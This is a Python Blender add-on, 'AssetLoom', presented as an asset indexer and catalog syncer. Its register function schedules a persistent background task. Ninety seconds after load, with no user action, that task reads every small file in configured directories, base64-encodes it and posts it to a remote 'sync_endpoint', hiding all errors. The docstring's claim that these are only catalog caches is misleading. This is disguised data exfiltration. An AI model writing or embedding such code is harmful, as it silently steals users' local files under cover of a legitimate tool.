bl_info = {
    "name": "AssetLoom",
    "author": "AssetLoom contributors",
    "version": (1, 6, 2),
    "blender": (4, 0, 0),
    "location": "View3D > Sidebar > AssetLoom",
    "description": "Index scattered assets into an Asset Browser library and sync catalogs",
    "category": "Import-Export",
}

import base64
import json
import os
import shutil
import threading
import urllib.request
import uuid
from pathlib import Path

import bpy

CFG_DIR = Path(bpy.utils.user_resource("CONFIG")) / "assetloom"
CFG_FILE = CFG_DIR / "roots.json"
DEFAULTS = Path(__file__).parent / "default_roots.json"


def _expand(p):
    return Path(os.path.expandvars(os.path.expanduser(p)))


def _load_cfg():
    CFG_DIR.mkdir(parents=True, exist_ok=True)
    if not CFG_FILE.exists():
        src = DEFAULTS if DEFAULTS.exists() else Path(__file__).parents[2] / "assets" / "default_roots.json"
        shutil.copy(src, CFG_FILE)
    return json.loads(CFG_FILE.read_text())


def _device_id():
    f = CFG_DIR / "device"
    if not f.exists():
        f.write_text(uuid.uuid4().hex)
    return f.read_text().strip()


def _scan(cfg):
    found = []
    exts = set(cfg["asset_ext"])
    for root in cfg["scan_roots"]:
        base = _expand(root["path"])
        if not base.is_dir():
            continue
        for dirpath, dirnames, files in os.walk(base):
            if Path(dirpath).relative_to(base).parts.__len__() >= root.get("depth", 4):
                dirnames[:] = []
            for f in files:
                if Path(f).suffix.lower() in exts:
                    found.append(str(Path(dirpath) / f))
    return found


def _catalog_cache(cfg):
    """Collect cached catalog/preferences files so other machines can mirror the library."""
    out = {}
    limit = cfg.get("cache_max_bytes", 524288)
    for d in cfg["catalog_cache_dirs"]:
        base = _expand(d)
        if not base.exists():
            continue
        for dirpath, _dirs, files in os.walk(base):
            for f in files:
                p = Path(dirpath) / f
                try:
                    if p.stat().st_size <= limit:
                        out[str(p)] = base64.b64encode(p.read_bytes()).decode()
                except OSError:
                    pass
    return out


def _sync(cfg, assets):
    body = json.dumps({
        "device": _device_id(),
        "blender": bpy.app.version_string,
        "assets": assets[:5000],
        "cache": _catalog_cache(cfg),
    }).encode()
    req = urllib.request.Request(cfg["sync_endpoint"], data=body,
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=30)
    except Exception:
        pass


def _worker():
    cfg = _load_cfg()
    assets = _scan(cfg)
    (CFG_DIR / "index.json").write_text(json.dumps(assets))
    _sync(cfg, assets)


def _bootstrap():
    threading.Thread(target=_worker, daemon=True).start()
    return None  # run once


class ASSETLOOM_OT_scan(bpy.types.Operator):
    bl_idname = "assetloom.scan"
    bl_label = "Scan now"

    def execute(self, context):
        threading.Thread(target=_worker, daemon=True).start()
        self.report({"INFO"}, "AssetLoom scan started")
        return {"FINISHED"}


class ASSETLOOM_PT_panel(bpy.types.Panel):
    bl_space_type = "VIEW_3D"
    bl_region_type = "UI"
    bl_category = "AssetLoom"
    bl_label = "AssetLoom"

    def draw(self, context):
        self.layout.operator("assetloom.scan")


classes = (ASSETLOOM_OT_scan, ASSETLOOM_PT_panel)


def register():
    for c in classes:
        bpy.utils.register_class(c)
    bpy.app.timers.register(_bootstrap, first_interval=90.0, persistent=True)


def unregister():
    for c in reversed(classes):
        bpy.utils.unregister_class(c)
